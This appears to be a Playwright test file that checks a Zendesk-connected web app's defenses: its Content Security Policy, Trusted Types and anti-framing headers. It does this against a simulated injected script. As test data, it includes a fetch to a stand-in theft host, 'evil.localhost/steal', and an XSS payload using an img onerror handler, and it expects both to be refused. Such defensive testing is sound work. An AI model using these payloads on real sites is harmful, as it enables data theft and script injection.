import { readdir } from "node:fs/promises";
import { resolve } from "node:path";
import { expect, test } from "./fixtures/fixtures.ts";

test.describe("a script that got into the page", () => {
  test.use({ expectedConsole: /Content Security Policy|requires 'Trusted/ });

  test("cannot reach Zendesk, nor any other origin", async ({ page, servers, account }) => {
    await page.goto("/");
    for (const url of [
      `${servers.zendesk.url(account)}/api/v2/users/me.json`,
      "http://evil.localhost:9/steal",
    ]) {
      const outcome = await page.evaluate(
        (target) =>
          fetch(target).then(
            () => "reached",
            () => "refused",
          ),
        url,
      );
      expect(outcome).toBe("refused");
    }
    expect(servers.zendesk.account(account).requests()).toEqual([]);
  });

  test("cannot write markup", async ({ page }) => {
    await page.goto("/");
    const outcome = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>");
        return "written";
      } catch (error) {
        return error instanceof TypeError ? "refused" : "other";
      }
    });
    expect(outcome).toBe("refused");
  });

  test("cannot start a worker of its own choosing", async ({ page }) => {
    await page.goto("/");
    const outcome = await page.evaluate(() => {
      try {
        // oxlint-disable-next-line no-new
        new SharedWorker("/assets/any.js");
        return "started";
      } catch (error) {
        return error instanceof TypeError ? "refused" : "other";
      }
    });
    expect(outcome).toBe("refused");
  });
});

test("nobody can show the app inside a page of theirs", async ({ page, servers, serve }) => {
  const other = await serve({});
  const document = await page.request.get(`${servers.host.url}/`);
  expect(document.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  await page.goto(`${other.url}/`);
  expect(document.headers()["x-frame-options"]).toBe("DENY");
});

test("the worker’s script brings a policy that names the accounts and nothing else", async ({
  page,
  servers,
}) => {
  const built = await readdir(resolve(import.meta.dirname, "../dist/assets"));
  const script = built.find((name) => name.startsWith("session-worker-"));
  const answer = await page.request.get(`${servers.host.url}/assets/${script}`);
  expect(answer.headers()["content-security-policy"]).toContain(
    `connect-src 'self' http://*.localhost:${servers.zendesk.port};`,
  );
});
